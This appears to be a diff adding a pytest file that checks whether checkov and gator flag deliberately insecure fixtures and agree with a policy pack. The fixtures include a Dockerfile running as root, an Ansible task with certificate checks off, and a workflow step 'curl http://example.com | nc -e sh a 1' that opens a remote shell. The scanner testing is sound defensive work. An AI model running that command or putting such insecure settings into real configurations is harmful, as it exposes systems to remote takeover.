@@ -1,0 +1,172 @@
+"""checkov and gator themselves: what they find in bad fixtures of every kind, and that they agree with the pack."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from collections.abc import Sequence
+from pathlib import Path
+
+import pytest
+
+from groundwork.console import PlainProgress
+from groundwork.errors import UserError
+from local import toolchain
+from local.paths import Paths
+from policies.admission.dry_run import refusals
+from policies.admission.templates import held, kind_of, manifests
+from policies.checkov.environment import ensure
+from policies.checkov.scan import Scan, scan
+from policies.rule import Resource, at
+from tests.policies.parity import BESIDE, CHECKOV, PACK_ONLY, Form, as_manifest, forms
+
+pytestmark = pytest.mark.engine
+
+# Bad in one way at least for each of checkov's runners that read files, and what it must say of them.
+BAD_FILES = {
+    "images/bad/Dockerfile": "FROM debian:latest\nRUN apt-get update\nADD https://example.com/a /a\nUSER root\n",
+    ".github/workflows/bad.yml": (
+        "on: push\npermissions: write-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n"
+        "      ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n    steps:\n      - run: curl http://example.com | nc -e sh a 1\n"
+    ),
+    "playbooks/bad.yml": (
+        "- hosts: all\n  tasks:\n    - name: fetch\n      ansible.builtin.get_url:\n        url: https://example.com/a\n"
+        "        dest: /a\n        validate_certs: false\n"
+    ),
+}
+FOUND_IN_FILES = {
+    "CKV_DOCKER_2", "CKV_DOCKER_4", "CKV_DOCKER_5", "CKV_DOCKER_7", "CKV_DOCKER_8",
+    "CKV_GHA_1", "CKV2_GHA_1", "CKV_ANSIBLE_2",
+}  # fmt: skip
+# Where a template names the kind of its constraints.
+NAMES = ("spec", "crd", "spec", "names")
+
+
+@pytest.fixture(scope="module")
+def checkov() -> Path:
+    return ensure(Paths.for_user().cache)
+
+
+@pytest.fixture(scope="module")
+def gator() -> Path:
+    return toolchain.ensure(("gator",), progress=PlainProgress()).path("gator")
+
+
+@pytest.fixture(scope="module")
+def twice() -> Sequence[Form]:
+    return list(forms(frozenset(CHECKOV)))
+
+
+@pytest.fixture(scope="module")
+def seen(checkov: Path, twice: Sequence[Form], tmp_path_factory: pytest.TempPathFactory) -> Scan:
+    """One run for all tests: every fixture of the pack that checkov has a check for, and files bad in every way."""
+    checkout = tmp_path_factory.mktemp("checkout")
+    for name, text in BAD_FILES.items():
+        file = checkout / name
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(text)
+    return scan(checkov, [form.resource for form in twice], checkout)
+
+
+def failed(seen: Scan, form: Form) -> set[str]:
+    return {each.check for each in seen.found if each.where == form.resource.urn}
+
+
+def test_checkov_reads_all_that_it_is_given(seen: Scan) -> None:
+    assert seen.unread == ()
+    assert seen.untranslated == ()
+
+
+def test_checkov_finds_what_is_bad_in_files_of_every_kind(seen: Scan) -> None:
+    found = {each.check for each in seen.found if not each.where.startswith("urn:")}
+    assert found == FOUND_IN_FILES
+
+
+def test_checkov_and_the_pack_agree_but_where_the_pack_sees_more(seen: Scan, twice: Sequence[Form]) -> None:
+    """The pack lets each good form pass and finds each bad one (tests/policies/test_pack.py)."""
+    said = {form.name: failed(seen, form) & CHECKOV[form.case.policy] for form in twice}
+    assert [form.name for form in twice if form.path is None and said[form.name]] == []
+    assert {form.name for form in twice if form.path is not None and not said[form.name]} == PACK_ONLY
+
+
+def test_a_check_that_finds_what_a_rule_finds_is_in_the_table(seen: Scan, twice: Sequence[Form]) -> None:
+    """Otherwise a rule exists twice, and nothing holds the two to each other."""
+    known = frozenset().union(*CHECKOV.values()) | BESIDE
+    good = {form.case.policy: failed(seen, form) for form in twice if form.path is None}
+    more = {check for form in twice for check in failed(seen, form) - good[form.case.policy] - known}
+    assert more == set()
+
+
+def test_what_checkov_cannot_read_is_named(checkov: Path, tmp_path: Path) -> None:
+    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
+    workflows = tmp_path / ".github" / "workflows"
+    workflows.mkdir(parents=True)
+    (workflows / "a.yml").write_text("on: [push\n")
+    assert scan(checkov, [], tmp_path).unread == ("github_actions (no check was made)",)
+
+
+def refused(gator: Path, resources: Sequence[Resource]) -> set[tuple[str, str]]:
+    return {(each.policy, each.urn) for each in refusals(gator, resources)}
+
+
+@pytest.mark.parametrize("policy", [rule.id for rule in held()])
+def test_admission_and_the_pack_agree(policy: str, gator: Path) -> None:
+    listed = list(forms(frozenset({policy})))
+    assert any(form.path is None for form in listed)
+    # A rule that looks at objects beside the one that is asked about is asked about one form at a time.
+    if not any(form.case.beside for form in listed):
+        found = refused(gator, [form.resource for form in listed])
+    else:
+        found = set()
+        for form in listed:
+            beside = [
+                Resource(
+                    type=each.type, urn=f"urn:{each.name}", name=each.name, props=as_manifest(each.type, each.props)
+                )
+                for each in form.case.beside
+            ]
+            found |= refused(gator, [form.resource, *beside])
+    bad = {form.resource.urn for form in listed if form.path is not None}
+    assert {urn for said, urn in found if said == policy} & {form.resource.urn for form in listed} == bad
+
+
+def test_each_template_holds_by_gators_own_suites(gator: Path, tmp_path: Path) -> None:
+    """One object at a time, as a webhook sees them: `gator test` sees all of a stack together."""
+    for rule in held():
+        folder = tmp_path / rule.id
+        folder.mkdir()
+        write_suite(folder, rule.id, list(forms(frozenset({rule.id}))))
+    ended = subprocess.run([str(gator), "verify", f"{tmp_path}/..."], capture_output=True, text=True, check=False)
+    assert ended.returncode == 0, ended.stdout + ended.stderr
+    assert ended.stdout.count("ok\t") == len(held())
+
+
+def write_suite(folder: Path, policy: str, listed: Sequence[Form]) -> None:
+    (rule,) = [rule for rule in held() if rule.id == policy]
+    made = [each for each in manifests() if kind_of(rule) in {each["kind"], str(at(each, *NAMES, "kind"))}]
+    assert len(made) == 2
+    cases = []
+    for number, form in enumerate(listed):
+        beside = [(f"beside{each.name}{number}", as_manifest(each.type, each.props)) for each in form.case.beside]
+        for name, each in ((f"object{number}", form.resource.props), *beside):
+            (folder / f"{name}.yaml").write_text(json.dumps(each))
+        cases.append(
+            {
+                "name": form.name,
+                "object": f"object{number}.yaml",
+                "inventory": [f"{name}.yaml" for name, _ in beside],
+                "assertions": [{"violations": "no" if form.path is None else "yes"}],
+            }
+        )
+    for name, each in zip(("template", "constraint"), made, strict=True):
+        (folder / f"{name}.yaml").write_text(json.dumps(each))
+    test = {"name": policy, "template": "template.yaml", "constraint": "constraint.yaml", "cases": cases}
+    suite = {"apiVersion": "test.gatekeeper.sh/v1alpha1", "kind": "Suite", "tests": [test]}
+    (folder / "suite.yaml").write_text(json.dumps(suite))
+
+
+def test_an_object_that_admission_cannot_read_is_an_error(gator: Path) -> None:
+    (form, *_) = forms(frozenset({"k8s-image-digest"}))
+    odd = Resource(type=form.resource.type, urn="urn:a", name="a", props={"apiVersion": "v1", "kind": ""})
+    with pytest.raises(UserError):
+        refusals(gator, [odd])
